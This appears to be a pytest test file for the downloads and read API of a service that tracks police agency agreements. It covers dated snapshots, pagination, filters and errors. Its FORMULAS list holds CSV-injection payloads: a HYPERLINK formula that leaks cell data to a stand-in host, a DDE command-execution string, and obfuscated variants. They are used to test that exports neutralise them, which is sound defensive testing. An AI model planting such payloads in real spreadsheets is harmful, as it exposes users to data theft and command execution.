"""The downloads and the read API: all of it, as of any day, and nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import datetime
from typing import Any
from urllib.parse import urlsplit

import pytest

from monitor.exports.records import agreement_line, entry_line
from monitor.storage.log import open_reader
from tests.web.builders import PENDING, Browser, Log, applied, at, changed, confirmed, gone, new, row
from tests.web.test_safety import everywhere

pytestmark = pytest.mark.slow

ReadAt = Callable[[datetime], Browser]
BASELINE, LAST_LOOK, NOW = at("2025-08-10 14:00"), at("2025-10-02 11:00"), at("2025-10-02 12:00")
FORMULAS = (
    '=HYPERLINK("https://evil.test?"&A1,"Total")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    'x","=1+1',
    "x\r\n=1+1",
)


@pytest.fixture
def told(log: Log) -> Log:
    """Agreements in two states of which one leaves, one is changed, and one comes; and an application."""
    log.begins(BASELINE, row(), row("Tallow Creek Police Department", state="TEXAS", county=""))
    log.begins(BASELINE, row("Saltmere Police Department", state="ALABAMA"), list_=PENDING)
    (left,) = log.publishes(at("2025-08-20 14:00"), gone(1))
    log.publishes(at("2025-08-23 14:00"), confirmed(1, left), new(row("Ashlar", state="TEXAS")))
    log.publishes(at("2025-09-05 14:00"), changed(2, row("Tallow Creek Police", state="TEXAS", signed="2025-09-01")))
    log.publishes(at("2025-09-06 14:00"), applied(row("Dunmarsh")), list_=PENDING)
    log.looks(LAST_LOOK)
    return log


def asked(browser: Browser, address: str) -> Any:
    page = browser.get(address)
    assert page.status == 200, page.html
    assert page.headers["Content-Type"] == "application/json"
    return json.loads(page.html)


def table(browser: Browser, address: str) -> list[dict[str, str]]:
    page = browser.get(address)
    assert page.status == 200
    assert page.headers["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(page.html, newline="")))


def test_the_changes_are_what_the_command_line_prints(told: Log, read_at: ReadAt) -> None:
    with open_reader(told.path) as log:
        lines = [json.loads(json.dumps(entry_line(entry))) for entry in log.changelog.entries()]
    assert [json.loads(line) for line in read_at(NOW).get("/data/changes.jsonl").html.splitlines()] == lines
    assert [line["id"] for line in table(read_at(NOW), "/data/changes.csv")] == [line["id"] for line in lines]
    assert asked(read_at(NOW), "/api/changes")["changes"] == lines


def test_the_agreements_are_those_that_are_listed_now(told: Log, read_at: ReadAt) -> None:
    with open_reader(told.path) as log:
        lines = [json.loads(json.dumps(agreement_line(found))) for found in log.agreements.all() if found.listed]
    assert asked(read_at(NOW), "/data/agreements.json") == {"position": 5, "agreements": lines}
    assert [line["agency"] for line in table(read_at(NOW), "/data/agreements.csv")] == [
        "Tallow Creek Police",
        "Saltmere Police Department",
        "Ashlar",
        "Dunmarsh",
    ]


@pytest.mark.parametrize(
    ("day", "agencies"),
    [
        ("2025-08-10", 3),
        ("2025-08-19", 3),
        ("2025-08-20", 2),  # the day ends after its publication
        ("2025-08-23", 3),
        ("2025-10-02", 4),
    ],
)
def test_any_day_can_be_asked_for_as_it_ended(told: Log, read_at: ReadAt, day: str, agencies: int) -> None:
    assert len(table(read_at(NOW), f"/data/agreements.csv?as-of={day}")) == agencies
    assert len(asked(read_at(NOW), f"/data/agreements-{day}.json")["agreements"]) == agencies


def test_a_past_day_shows_the_cells_of_that_day(told: Log, read_at: ReadAt) -> None:
    then = asked(read_at(NOW), "/data/agreements-2025-09-04.json")["agreements"]
    assert "Tallow Creek Police Department" in [agreement["agency"] for agreement in then]


@pytest.mark.parametrize("day", ["2025-08-09", "2025-10-03", "yesterday", "20250820", "2025-02-30", "9999-12-31"])
def test_a_day_of_which_nothing_is_known_is_not_an_empty_list(told: Log, read_at: ReadAt, day: str) -> None:
    assert read_at(NOW).get(f"/data/agreements.csv?as-of={day}").status == 404
    assert read_at(NOW).get(f"/data/agreements-{day}.json").status == 404


def test_nothing_is_said_of_a_day_after_the_last_look(told: Log, read_at: ReadAt) -> None:
    a_year_on = read_at(at("2026-10-02 12:00"))
    late = a_year_on.get("/data/agreements.csv?as-of=2025-10-03")
    assert late.status == 404
    assert "not checked successfully after Oct. 2, 2025, 7:00 a.m. ET" in late.one(".lead")
    assert [name for name in a_year_on.get("/data/").links() if "agreements-" in name and name.endswith("json")] == [
        "/data/agreements-2025-09-30.json",
        "/data/agreements-2025-08-31.json",
    ]
    assert asked(a_year_on, "/data/agreements-2025-09-30.json")["checked_at"] == "2025-09-05T14:00:00Z"


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_table_begins_as_a_formula(log: Log, read_at: ReadAt, formula: str) -> None:
    log.begins(BASELINE, everywhere(formula), row())
    log.publishes(at("2025-08-20 14:00"), gone(1), changed(2, everywhere(formula)), new(everywhere(f"{formula} 2")))
    rows = [
        line
        for name in ("changes.csv", "agreements.csv", "agreements-2025-08-10.csv")
        for line in table(read_at(NOW), f"/data/{name}")
    ]
    assert rows
    for line in rows:
        assert None not in line  # no cell has broken out into another
        for cell in line.values():
            bare = cell.replace("\N{NO-BREAK SPACE}", " ").lstrip()
            assert not bare.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
            assert cell[:1] not in ("\t", "\r", "\n")


def test_the_page_names_every_field(told: Log, read_at: ReadAt) -> None:
    page = read_at(NOW).get("/data/")
    named = {name for cell in page.all("table.cells th code") for name in cell.split(", ")}
    assert set(asked(read_at(NOW), "/api/changes")["changes"][0]) <= named
    assert set(asked(read_at(NOW), "/api/agreements")["agreements"][0]) <= named


def test_every_download_that_the_page_links_is_there(told: Log, read_at: ReadAt) -> None:
    links = read_at(NOW).get("/data/").links("main a")
    assert "/data/agreements-2025-08-31.csv" in links
    assert "/data/agreements-2025-09-30.json" in links
    for link in links:
        if link.startswith("/"):
            with read_at(NOW).client.get(link) as answer:
                assert answer.status_code == 200


def test_pages_of_changes_follow_each_other_and_miss_nothing(told: Log, read_at: ReadAt) -> None:
    following, found = "/api/changes?limit=2&state=TX&state=GA&state=AL", []
    while following:
        answer = asked(read_at(NOW), following)
        found += [line["seq"] for line in answer["changes"]]
        parts = urlsplit(answer["next"] or "")
        following = parts.path and f"{parts.path}?{parts.query}"
    assert found == [1, 2, 3, 4, 5]


def test_whoever_keeps_up_asks_after_a_position(told: Log, read_at: ReadAt) -> None:
    answer = asked(read_at(NOW), "/api/changes?after=4")
    assert [line["kind"] for line in answer["changes"]] == ["applied"]
    assert (answer["next"], answer["position"]) == (None, 5)
    assert asked(read_at(NOW), "/api/changes?after=5") == {"changes": [], "next": None, "position": 5}


@pytest.mark.parametrize(
    ("query", "kinds"),
    [
        ("state=TX", ["new", "changed"]),
        ("state=texas&kind=new", ["new"]),
        ("kind=terminated&kind=confirmed", ["terminated", "confirmed"]),
        ("list=pending", ["applied"]),
        ("since=2025-09-05&until=2025-09-06", ["changed"]),
        ("since=2025-09-06T16:00:00%2B02:00", ["applied"]),
        ("since=2025-09-06T16:00:00+02:00", ["applied"]),
        ("state=unknown", []),
    ],
)
def test_changes_can_be_narrowed(told: Log, read_at: ReadAt, query: str, kinds: list[str]) -> None:
    assert [line["kind"] for line in asked(read_at(NOW), f"/api/changes?{query}")["changes"]] == kinds


@pytest.mark.parametrize(
    ("query", "agencies"),
    [
        ("", ["Tallow Creek Police", "Saltmere Police Department", "Ashlar", "Dunmarsh"]),
        ("?listed=no", ["Quillmarsh County Sheriff's Office"]),
        ("?state=TX&listed=all", ["Tallow Creek Police", "Ashlar"]),
    ],
)
def test_agreements_can_be_narrowed(told: Log, read_at: ReadAt, query: str, agencies: list[str]) -> None:
    assert [a["agency"] for a in asked(read_at(NOW), f"/api/agreements{query}")["agreements"]] == agencies


def test_pages_of_agreements_go_on_after_one_that_left_meanwhile(log: Log, read_at: ReadAt) -> None:
    log.begins(BASELINE, row("First Office"), row("Second Office"), row("Third Office"))
    first = asked(read_at(NOW), "/api/agreements?limit=1")
    log.publishes(at("2025-10-01 14:00"), gone(1))
    url = urlsplit(first["next"])
    rest = asked(read_at(NOW), f"{url.path}?{url.query}")
    assert [a["agency"] for a in rest["agreements"]] == ["Second Office"]


def test_pages_of_agreements_follow_each_other(told: Log, read_at: ReadAt) -> None:
    following, found = "/api/agreements?limit=1&listed=all", []
    while following:
        answer = asked(read_at(NOW), following)
        found += [line["id"] for line in answer["agreements"]]
        parts = urlsplit(answer["next"] or "")
        following = parts.path and f"{parts.path}?{parts.query}"
    assert len(found) == len(set(found)) == 5


def test_one_entry_comes_with_its_notes(told: Log, read_at: ReadAt) -> None:
    left = asked(read_at(NOW), "/api/changes?kind=terminated")["changes"][0]
    answer = asked(read_at(NOW), f"/api/changes/{left['id']}")
    assert [note["kind"] for note in answer.pop("notes")] == ["confirmed"]
    assert answer == left
    history = asked(read_at(NOW), f"/api/agreements/{left['agreement']}")["changes"]
    assert [line["kind"] for line in history] == ["terminated", "confirmed"]


@pytest.mark.parametrize(
    ("address", "status"),
    [
        ("/api/changes?state=ZZ", 400),
        ("/api/changes?kind=vanished", 400),
        ("/api/changes?limit=0", 400),
        ("/api/changes?limit=1001", 400),
        ("/api/changes?after=-1", 400),
        ("/api/changes?after=99999999999999999999", 400),
        ("/api/changes?since=soon", 400),
        ("/api/changes?since=0001-01-01T00:00:00%2B14:00", 400),
        ("/api/changes?sate=TX", 400),
        ("/api/agreements?listed=maybe", 400),
        ("/api/agreements?after=a-none", 400),
        ("/api/changes/c-none", 404),
        ("/api/agreements/a-none", 404),
    ],
)
def test_what_cannot_be_answered_is_said_in_json(told: Log, read_at: ReadAt, address: str, status: int) -> None:
    page = read_at(NOW).get(address)
    assert page.status == status
    assert json.loads(page.html)["error"]


def test_an_empty_log_gives_empty_files(log: Log, read_at: ReadAt) -> None:
    log.begins(BASELINE)
    assert read_at(NOW).get("/data/changes.jsonl").html == ""
    assert asked(read_at(NOW), "/data/agreements.json")["agreements"] == []
